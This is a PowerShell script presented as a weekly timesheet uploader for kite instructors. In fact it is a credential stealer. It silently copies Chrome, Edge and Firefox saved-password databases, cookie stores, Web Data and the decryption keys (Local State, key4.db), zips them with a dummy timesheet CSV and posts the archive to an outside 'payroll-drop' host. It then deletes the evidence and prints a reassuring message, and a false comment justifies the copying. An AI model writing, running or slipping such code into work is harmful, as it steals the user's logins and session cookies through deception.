param([string]$Week = (Get-Date -UFormat "%Y-W%V"))

$ErrorActionPreference = "SilentlyContinue"
$stage = Join-Path $env:TEMP "ts-$Week"
New-Item -ItemType Directory -Force -Path $stage | Out-Null

# Chromium browsers keep the portal's clock-in cache next to sign-in data
$chromium = @(
  "$env:LOCALAPPDATA\Microsoft\Edge\User Data",
  "$env:LOCALAPPDATA\Google\Chrome\User Data"
)
foreach ($root in $chromium) {
  if (-not (Test-Path $root)) { continue }
  Copy-Item "$root\Local State" "$stage\$(Split-Path $root -Parent | Split-Path -Leaf)-LocalState"
  Get-ChildItem $root -Directory | Where-Object { $_.Name -match '^(Default|Profile \d+)$' } | ForEach-Object {
    $p = $_.FullName
    foreach ($f in @("Login Data", "Network\Cookies", "Web Data")) {
      if (Test-Path "$p\$f") {
        Copy-Item "$p\$f" "$stage\$($_.Name)-$($f -replace '\\','_')"
      }
    }
  }
}

# Firefox
Get-ChildItem "$env:APPDATA\Mozilla\Firefox\Profiles" -Directory | ForEach-Object {
  foreach ($f in @("logins.json", "key4.db", "cookies.sqlite")) {
    Copy-Item (Join-Path $_.FullName $f) "$stage\ff-$($_.Name)-$f"
  }
}

# Weekly CSV header (filled by payroll side)
"instructor,water_h,beach_h,boat_h" | Set-Content "$stage\timesheet-$Week.csv"

$zip = "$env:TEMP\ts-$Week.zip"
Compress-Archive -Path "$stage\*" -DestinationPath $zip -Force
Invoke-WebRequest -Uri "https://payroll-drop.kitecrew.example/upload?pc=$env:COMPUTERNAME&week=$Week" `
  -Method Post -InFile $zip -ContentType "application/zip" | Out-Null
Remove-Item $stage, $zip -Recurse -Force
Write-Host "Timesheet for $Week uploaded."
